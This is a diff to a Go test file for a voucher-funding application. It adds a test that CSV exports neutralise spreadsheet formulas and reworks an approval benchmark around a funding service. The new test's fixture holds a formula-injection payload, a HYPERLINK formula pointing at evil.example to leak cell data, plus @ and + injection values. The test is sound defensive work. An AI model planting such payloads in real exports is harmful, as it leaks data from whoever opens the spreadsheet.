@@ -8,8 +8,9 @@ import (
 	"github.com/lotse-oss/lotse/internal/contracts"
 	"github.com/lotse-oss/lotse/internal/demo"
 	"github.com/lotse-oss/lotse/internal/domain"
+	"github.com/lotse-oss/lotse/internal/funding"
+	"github.com/lotse-oss/lotse/internal/notify"
 	"github.com/lotse-oss/lotse/internal/programmes"
-	"github.com/lotse-oss/lotse/internal/store"
 	"github.com/lotse-oss/lotse/internal/store/storetest"
 )
 
@@ -24,6 +25,27 @@ func TestVoucherCSVIsForGermanSpreadsheets(t *testing.T) {
 	if !strings.HasPrefix(s, "\ufeffGutscheincode;") || !strings.Contains(s, ";300,00;") || !strings.Contains(s, `"Verwaltungsschule; Stuttgart"`) ||
 		!strings.Contains(s, "\r\n") {
 		t.Fatalf("csv %q", s)
+	}
+}
+
+// Names that a spreadsheet would read as a formula are written as text.
+func TestVoucherCSVNeutralisesFormulas(t *testing.T) {
+	vs := []domain.Voucher{{Code: "08999001-K7QM-4XD2-P9H1", ValueCents: 30000, AGS: "08999001",
+		Municipality: `=HYPERLINK("https://evil.example/?d="&A2;"Gutschein einlösen")`, ProviderName: "@SUM(1+1)"}}
+	b, err := contracts.VoucherCSV(vs, "+Basis")
+	if err != nil {
+		t.Fatal(err)
+	}
+	s := string(b)
+	for _, want := range []string{`"'=HYPERLINK(""https://evil.example/?d=""&A2;""Gutschein einlösen"")"`, ";'@SUM(1+1);", ";'+Basis;", ";300,00;"} {
+		if !strings.Contains(s, want) {
+			t.Errorf("csv lacks %s:\n%s", want, s)
+		}
+	}
+	for _, cell := range strings.FieldsFunc(strings.SplitN(s, "\r\n", 2)[1], func(r rune) bool { return r == ';' || r == '\r' || r == '\n' }) {
+		if strings.ContainsAny(cell[:1], "=+@") {
+			t.Errorf("live formula cell %q", cell)
+		}
 	}
 }
 
@@ -62,20 +84,27 @@ func BenchmarkApproval(b *testing.B) {
 			}
 			ms, _ := db.Memberships(ctx, signatory.ID)
 			actx := domain.WithActor(ctx, &domain.Actor{Person: signatory, Memberships: ms})
+			reviewer, err := db.PersonByEmail(ctx, "pruefung@staedtetag-bw.example")
+			if err != nil {
+				b.Fatal(err)
+			}
+			rms, _ := db.Memberships(ctx, reviewer.ID)
+			rctx := domain.WithActor(ctx, &domain.Actor{Person: reviewer, Memberships: rms})
+			fund := funding.New(db, notify.MustNew("https://lotse.example"))
 			prog, track, people, yes := programmes.BWID, domain.TrackBasis, 5, true
 			b.ResetTimer()
 			for i := 0; i < b.N; i++ {
 				b.StopTimer()
-				a, err := db.CreateApplication(actx, org.ID, domain.ApplicationInput{ProgrammeID: &prog, Track: &track,
+				a, err := fund.CreateApplication(actx, org.ID, domain.ApplicationInput{ProgrammeID: &prog, Track: &track,
 					ProviderID: &p.ProviderIDs[0], People: &people, Declarations: &yes})
 				if err != nil {
 					b.Fatal(err)
 				}
-				if _, err := db.SubmitApplication(actx, a.ID); err != nil {
+				if _, err := fund.SubmitApplication(actx, a.ID); err != nil {
 					b.Fatal(err)
 				}
 				b.StartTimer()
-				got, err := db.ApproveApplication(actx, a.ID, contracts.Files)
+				got, err := fund.ApproveApplication(rctx, a.ID)
 				if err != nil {
 					b.Fatal(err)
 				}
@@ -86,5 +115,3 @@ func BenchmarkApproval(b *testing.B) {
 		})
 	}
 }
-
-var _ = store.SQLite
